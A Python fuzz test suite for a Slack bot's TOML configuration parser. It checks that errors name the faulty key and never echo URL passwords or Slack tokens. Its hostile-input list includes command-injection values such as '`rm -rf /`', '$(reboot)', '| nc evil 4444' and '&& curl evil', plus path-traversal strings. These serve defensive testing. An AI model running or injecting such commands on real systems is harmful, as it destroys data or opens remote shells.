"""Fuzz the configuration parser: ``parse_settings`` -> ``Settings`` or ``ConfigError``.

Inputs: random TOML documents (written by a small emitter from hypothesis data), random text,
and the shipped ``config/example.toml`` with one value replaced by something hostile: control
characters, very long strings, Unicode look-alikes, ``<!channel>``, shell metacharacters,
``http://user:pass@host`` URLs, other schemes, IPv6 literals, huge and non-finite numbers.

A ``ConfigError`` must name the key that was changed, read well, and never echo a secret:
the password of a URL, a Slack token, or whatever was put in ``password_env`` /
``username_env`` that is not an environment variable name (a pasted password, most likely).
Values that are environment variable names are names, not secrets, and may be echoed.
"""

from __future__ import annotations

import json
import math
import re
import tomllib
from datetime import date, datetime, time
from functools import cache
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.config import (
    ENV_NAME_PATTERN,
    SERVER_NAME_PATTERN,
    ConfigError,
    Settings,
    parse_settings,
)
from tests.fuzz import assert_readable, bounded, fuzz_settings, record

SOURCE = "exchange-tls.toml"
EXAMPLE = Path(__file__).resolve().parents[2] / "config" / "example.toml"


# ---------------------------------------------------------------------------------------------
# A TOML writer (tomllib only reads)
# ---------------------------------------------------------------------------------------------

_BARE_KEY = re.compile(r"^[A-Za-z0-9_-]+$")


def toml_string(text: str) -> str:
    """A TOML basic string: JSON's escapes, plus DEL, which TOML does not allow raw."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def toml_key(key: str) -> str:
    return key if _BARE_KEY.match(key) else toml_string(key)


def toml_value(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        if math.isnan(value):
            return "nan"
        if math.isinf(value):
            return "inf" if value > 0 else "-inf"
        return repr(value)
    if isinstance(value, str):
        return toml_string(value)
    if isinstance(value, datetime | date | time):
        return value.isoformat()
    if isinstance(value, list):
        return "[" + ", ".join(toml_value(item) for item in value) + "]"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{toml_key(k)} = {toml_value(v)}" for k, v in value.items()) + "}"
    raise TypeError(type(value))


def toml_document(data: dict[str, Any]) -> str:
    """Top-level scalars first, then tables, then arrays of tables."""
    lines: list[str] = []
    tables: list[tuple[str, dict[str, Any]]] = []
    arrays: list[tuple[str, list[dict[str, Any]]]] = []
    for key, value in data.items():
        if isinstance(value, dict):
            tables.append((key, value))
        elif isinstance(value, list) and value and all(isinstance(v, dict) for v in value):
            arrays.append((key, value))
        else:
            lines.append(f"{toml_key(key)} = {toml_value(value)}")
    for key, table in tables:
        lines.append(f"[{toml_key(key)}]")
        lines.extend(f"{toml_key(k)} = {toml_value(v)}" for k, v in table.items())
    for key, items in arrays:
        for item in items:
            lines.append(f"[[{toml_key(key)}]]")
            lines.extend(f"{toml_key(k)} = {toml_value(v)}" for k, v in item.items())
    return "\n".join(lines) + "\n"


@cache
def example_config() -> dict[str, Any]:
    return tomllib.loads(EXAMPLE.read_text(encoding="utf-8"))


def test_the_writer_round_trips_the_example() -> None:
    document = toml_document(example_config())
    assert tomllib.loads(document) == example_config()
    assert isinstance(parse_settings(document, source=SOURCE), Settings)


# ---------------------------------------------------------------------------------------------
# Checks
# ---------------------------------------------------------------------------------------------

def check_settings(text: str, *, key: str | None = None,
                   secrets: tuple[str, ...] = ()) -> Settings | None:
    try:
        settings = bounded(lambda: parse_settings(text, source=SOURCE), "parse_settings")
    except ConfigError as error:
        check_error(str(error), key=key, secrets=secrets)
        return None
    assert isinstance(settings, Settings)
    check_accepted(settings)
    record("Settings")
    return settings


def check_error(message: str, *, key: str | None, secrets: tuple[str, ...]) -> None:
    assert message.startswith(f"{SOURCE}: "), message
    assert_readable(message)
    if key is not None:
        assert f"{key}:" in message or f"{key}[" in message, (key, message)
    for secret in secrets:
        assert secret not in message, f"secret {secret!r} echoed in {message!r}"
    record("ConfigError")


def check_accepted(settings: Settings) -> None:
    """What the bot relies on once the configuration is accepted."""
    for server in settings.servers:
        assert SERVER_NAME_PATTERN.match(server.name)
        parts = urlsplit(server.url)
        assert parts.scheme in ("http", "https")
        assert parts.hostname
        assert parts.username is None
        assert parts.password is None
        for name in (server.username_env, server.password_env):
            assert name is None or ENV_NAME_PATTERN.match(name)
        for timeout in (server.connect_timeout, server.operation_timeout):
            assert math.isfinite(timeout)
            assert timeout > 0
            assert int(timeout) >= 0  # what the session does with it
    assert math.isfinite(settings.check.pool_idle_seconds)
    assert settings.check.pool_idle_seconds > 0


# ---------------------------------------------------------------------------------------------
# Random documents and text
# ---------------------------------------------------------------------------------------------

toml_scalars = st.one_of(
    st.booleans(), st.integers(min_value=-(2**63), max_value=2**63 - 1),
    st.floats(), st.text(max_size=40),
    st.sampled_from(["EX01", "http://ex01.contoso.com/PowerShell/", "kerberos", "basic",
                     "C0HEALTH", "U012ABCDEF", "S0ONCALL", "0 8 * * 1-5", "Europe/Amsterdam",
                     "sqlite:///x.db", "all", "pin", "never"]),
)
toml_values = st.recursive(
    toml_scalars,
    lambda children: st.one_of(st.lists(children, max_size=4),
                               st.dictionaries(st.text(max_size=8), children, max_size=4)),
    max_leaves=20,
)
SECTION_KEYS = {
    "slack": ["api_url", "allowed_channels", "allowed_users", "workers"],
    "check": ["concurrency", "plan_scope", "pool_idle_seconds"],
    "trust": ["include_certifi", "extra_public_roots", "intermediates", "internal_roots"],
    "approval": ["approvers", "admins", "required", "allow_self_approval",
                 "expires_after_minutes"],
    "storage": ["url"],
}
SERVER_KEYS = ["name", "url", "auth", "username_env", "password_env", "cert_validation",
               "ca_bundle", "connect_timeout", "operation_timeout", "encryption"]
SCHEDULE_KEYS = ["channel", "cron", "every_seconds", "timezone", "mention", "servers"]


@st.composite
def random_documents(draw: st.DrawFn) -> dict[str, Any]:
    """Documents shaped like the configuration, with random values (and some unknown keys)."""
    document: dict[str, Any] = {}
    for section, keys in SECTION_KEYS.items():
        if draw(st.booleans()):
            document[section] = {key: draw(toml_values) for key in keys if draw(st.booleans())}
    for section, keys in (("servers", SERVER_KEYS), ("schedules", SCHEDULE_KEYS)):
        document[section] = [
            {key: draw(toml_values) for key in keys if draw(st.booleans())}
            for _ in range(draw(st.integers(0, 2)))
        ]
    if draw(st.integers(0, 9)) == 0:
        document[draw(st.text(min_size=1, max_size=8))] = draw(toml_values)
    return document


@given(random_documents())
@fuzz_settings()
def test_random_documents(document: dict[str, Any]) -> None:
    check_settings(toml_document(document))


@given(st.dictionaries(st.text(max_size=10), toml_values, max_size=5))
@fuzz_settings()
def test_random_top_level_documents(document: dict[str, Any]) -> None:
    check_settings(toml_document(document))


@given(st.text(max_size=400))
@example("a = " + "[" * 5000 + "]" * 5000)
@example("a = " + "{b = " * 3000 + "1" + "}" * 3000)
@example("[[servers]]\nname = 'EX01'\nurl = 'http://[::1/PowerShell'")
@example("[slack]\napi_url = 'http://[x'")
@example("[[servers]]\nname = 'EX01'\nurl = 'http://ex01'\nconnect_timeout = 1" + "0" * 400)
@example("[check]\npool_idle_seconds = nan")
@example("[check]\npool_idle_seconds = inf")
@example("\x00")
@fuzz_settings()
def test_random_text(text: str) -> None:
    check_settings(text)


# ---------------------------------------------------------------------------------------------
# One hostile value in an otherwise valid configuration
# ---------------------------------------------------------------------------------------------

SECRET = "Sup3rS3cret-Zq9"
SLACK_TOKEN = "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx"
LOOK_ALIKES = ["ЕХ01", "ex０1", "EX01\u200b", "ＥＸ01", "EX0l", "еx01.contoso.com"]

hostile_strings = st.one_of(
    st.text(max_size=60),
    st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Co"]), min_size=1,
            max_size=10),
    st.sampled_from([
        "", " ", "x" * 10_000, "<!channel>", "<!here>", "<@U012ABCDEF>", "`rm -rf /`",
        "$(reboot)", "; shutdown -r now", "| nc evil 4444", "&& curl evil", "a'b\"c", "\\",
        "../../etc/passwd", "EX01\nEX02", "EX01\r\n[[servers]]", "\x1b[2J", "\u202eTXE",
        *LOOK_ALIKES,
        "http://[::1]/PowerShell/", "http://[fe80::1%25eth0]:5985/PowerShell/",
        "http://[::1/PowerShell/", "http://[::1]:99999/", "http://ex01:-1/", "http://ex01:x/",
        "https://EX01.contoso.com:5986/PowerShell/", "ftp://ex01/", "file:///etc/passwd",
        "javascript:alert(1)", "ldap://ex01/", "http:///PowerShell/", "http://",
        "//ex01/PowerShell/", "ex01.contoso.com", "http://ex01 .contoso.com/",
        "http://ex01.contoso.com#@evil/", "http://evil\\@ex01/",
    ]),
)


USERS = ["admin", "CONTOSO%5Cadmin", "", "a.b"]
WELL_FORMED_SECRETS = [
    f"http://{user}:{SECRET}@ex01.contoso.com/PowerShell/" for user in USERS] + [
    f"https://admin:{SECRET}@ex01.contoso.com:5986/PowerShell/",
    f"ftp://admin:{SECRET}@ex01/",
    f"http://admin:{SECRET}@/PowerShell/",
    f"http://admin:{SECRET}@[::1/PowerShell/",
    f"http://admin:{SECRET}@ex01:notaport/",
    f"postgresql+psycopg://exchange:{SECRET}@db.contoso.com/exchange_tls",
]
"""``scheme://user:password@...``: the password must not be echoed whatever the key."""
LOOSE_SECRETS = [f"admin:{SECRET}@ex01.contoso.com", f"http://admin:{SECRET}/x@ex01/",
                 f"http://admin:{SECRET}#@ex01/"]
"""Credentials in text that is barely a URL: hidden at least where a URL is expected."""
SLACK_TOKENS = [SLACK_TOKEN, f"Bearer {SLACK_TOKEN}", f"xapp-1-A0-{SECRET}"]

tagged_values = st.one_of(
    st.tuples(st.just("plain"), st.one_of(hostile_strings, st.lists(hostile_strings,
                                                                    max_size=3))),
    st.tuples(st.just("url"), st.sampled_from(WELL_FORMED_SECRETS)),
    st.tuples(st.just("loose"), st.sampled_from(LOOSE_SECRETS)),
    st.tuples(st.just("token"), st.sampled_from(SLACK_TOKENS)),
)
URL_KEYS = {"url", "api_url"}


KEYS = [("servers", 0, key) for key in SERVER_KEYS] + [
    ("slack", None, "api_url"), ("slack", None, "allowed_channels"),
    ("storage", None, "url"), ("check", None, "plan_scope"),
    ("schedules", 0, "timezone"), ("schedules", 0, "channel"), ("schedules", 0, "mention"),
    ("schedules", 0, "cron"), ("approval", None, "approvers"),
]
ENV_KEYS = {"username_env", "password_env"}


def with_value(section: str, index: int | None, key: str, value: Any) -> tuple[str, str]:
    """The example configuration with one value replaced, and that key's path."""
    document = json.loads(json.dumps(example_config()))
    if index is None:
        document[section][key] = value
        return toml_document(document), f"{section}.{key}"
    document[section][index][key] = value
    return toml_document(document), f"{section}[{index}].{key}"


@given(st.sampled_from(KEYS), tagged_values)
@fuzz_settings()
def test_one_hostile_value_is_named_and_never_echoes_a_secret(
        place: tuple[str, int | None, str], tagged: tuple[str, Any]) -> None:
    section, index, key = place
    kind, value = tagged
    text, path = with_value(section, index, key, value)
    secrets: list[str] = []
    if kind in ("url", "token") or (kind == "loose" and key in URL_KEYS):
        secrets.append(SECRET)
        secrets.append(SLACK_TOKEN.split("-", 1)[1])
    if key in ENV_KEYS and isinstance(value, str) and len(value.strip()) >= 6 \
            and not ENV_NAME_PATTERN.match(value):
        secrets.append(value)  # not a variable name: perhaps the password itself
    record(f"value: {kind}")
    check_settings(text, key=path, secrets=tuple(secrets))


@given(st.sampled_from([("servers", 0, "connect_timeout"), ("servers", 0, "operation_timeout"),
                        ("check", None, "pool_idle_seconds"), ("check", None, "concurrency"),
                        ("slack", None, "workers"), ("approval", None, "required"),
                        ("schedules", 0, "every_seconds")]),
       st.one_of(st.integers(min_value=-(2**63), max_value=2**63 - 1), st.floats(),
                 st.sampled_from([10**400, -(10**400), 2**53 + 1, 0, -0.0, 5e-324, True])))
@fuzz_settings()
def test_numbers_are_finite_and_in_range_or_refused(place: tuple[str, int | None, str],
                                                    value: int | float) -> None:
    section, index, key = place
    document = json.loads(json.dumps(example_config()))
    if section == "schedules":
        document[section][0].pop("cron")
    target = document[section] if index is None else document[section][index]
    target[key] = value
    path = f"{section}.{key}" if index is None else f"{section}[{index}].{key}"
    check_settings(toml_document(document), key=path)


@pytest.mark.parametrize("password", [SECRET, "Hunter2!", "p@ss w0rd", "pass:word"])
@pytest.mark.parametrize("key", sorted(ENV_KEYS))
def test_a_password_pasted_into_an_env_key_is_not_echoed(key: str, password: str) -> None:
    text, path = with_value("servers", 0, key, password)
    with pytest.raises(ConfigError) as raised:
        parse_settings(text, source=SOURCE)
    check_error(str(raised.value), key=path, secrets=(password,))


@pytest.mark.parametrize("url", [
    f"http://admin:{SECRET}@ex01.contoso.com/PowerShell/",
    f"ftp://admin:{SECRET}@ex01/",
    f"http://admin:{SECRET}@/PowerShell/",
    f"http://admin:{SECRET}@[::1/",
    f"admin:{SECRET}@ex01",
])
@pytest.mark.parametrize("place", [("servers", 0, "url"), ("slack", None, "api_url")])
def test_url_credentials_are_never_echoed(url: str, place: tuple[str, int | None, str]) -> None:
    text, path = with_value(*place, url)
    try:
        parse_settings(text, source=SOURCE)
    except ConfigError as error:
        check_error(str(error), key=path, secrets=(SECRET,))
    else:
        assert place[2] == "api_url"  # the Slack API URL may carry a proxy's credentials


def test_environment_variable_names_may_be_echoed() -> None:
    """They are names, not secrets: the message says which name is wrong when it is a name."""
    text, _ = with_value("servers", 0, "auth", "basic")
    text = text.replace('username_env = "EX01_USER"\n', "")
    with pytest.raises(ConfigError, match=r"servers\[0\]\.username_env: auth 'basic' needs"):
        parse_settings(text, source=SOURCE)
